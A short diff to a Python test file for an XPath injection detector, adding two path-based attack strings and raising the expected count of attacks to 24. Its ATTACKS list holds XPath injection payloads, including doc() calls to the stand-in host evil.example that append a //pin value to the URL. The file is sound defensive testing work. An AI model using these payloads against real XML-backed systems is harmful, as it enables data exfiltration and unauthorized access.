@@ -35,6 +35,8 @@ ATTACKS: list[tuple[str, str]] = [
     ("doc('http://evil.example/a')", "fetch"),
     ("doc(concat('http://evil.example/', //pin))", "fetch"),
     ("/child::node()", "root"),
+    ("//text()", "path"),
+    ("//user[name/text()='admin']", "path"),
 ]
 
 HONEST = r"""
@@ -82,7 +84,7 @@ def test_attack_is_found_by_its_rule(text: str, rule: str) -> None:
 
 
 def test_number_of_attacks() -> None:
-    assert len(ATTACKS) == 22
+    assert len(ATTACKS) == 24
     assert {rule for _, rule in ATTACKS} == {idiom.rule for idiom in xpath.IDIOMS}
 
 
